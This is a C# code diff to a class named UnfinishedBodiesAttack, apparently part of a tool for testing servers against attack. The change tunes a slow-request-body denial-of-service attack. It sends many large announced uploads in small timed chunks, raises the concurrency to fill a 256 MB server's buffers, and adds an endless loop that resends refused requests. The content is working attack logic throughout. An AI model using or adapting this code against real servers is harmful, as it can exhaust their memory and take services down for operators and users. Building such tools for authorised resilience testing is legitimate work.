@@ -8,11 +8,11 @@ internal sealed class UnfinishedBodiesAttack : IServerAttack
     /// <summary>The length that each request announces.</summary>
     public const int AnnouncedBytes = 10_900_000;
 
-    private const int FirstBytes = 600_000;
-
-    // With two paths and two connections 80 requests, which begin with 48 MB: more than the 32 MB that a server of 256 MB has for buffers.
-    private const int Streams = 20;
+    private const int FirstBytes = 250_000;
     private const int NextBytes = 16_000;
+
+    // Requests of a connection to each path. With two paths and two connections 180 hold 45 MB: a server of 256 MB has 32 MB for buffers.
+    private const int Streams = 45;
 
     // A server that expects 64 KB/s or more keeps the request.
     private static readonly TimeSpan s_between = TimeSpan.FromMilliseconds(200);
@@ -38,7 +38,18 @@ internal sealed class UnfinishedBodiesAttack : IServerAttack
     public async Task RunAsync(AttackTarget target, AttackCounts counts, CancellationToken stop)
     {
         await using AttackConnection connection = await AttackConnection.OpenAsync(target, counts, AttackConnection.OpenWindow, stop).ConfigureAwait(false);
-        await Task.WhenAll(Enumerable.Repeat(s_paths, Streams).SelectMany(paths => paths).Select(path => UploadAsync(connection, path, counts, stop))).ConfigureAwait(false);
+        IEnumerable<string> paths = Enumerable.Repeat(s_paths, Streams).SelectMany(paths => paths);
+        await Task.WhenAll(paths.Select(path => RepeatAsync(connection, path, counts, stop))).ConfigureAwait(false);
+    }
+
+    // A request that was refused is followed by another.
+    private static async Task RepeatAsync(AttackConnection connection, string path, AttackCounts counts, CancellationToken stop)
+    {
+        while (true)
+        {
+            await UploadAsync(connection, path, counts, stop).ConfigureAwait(false);
+            await Task.Delay(s_between, stop).ConfigureAwait(false);
+        }
     }
 
     private static async Task UploadAsync(AttackConnection connection, string path, AttackCounts counts, CancellationToken stop)
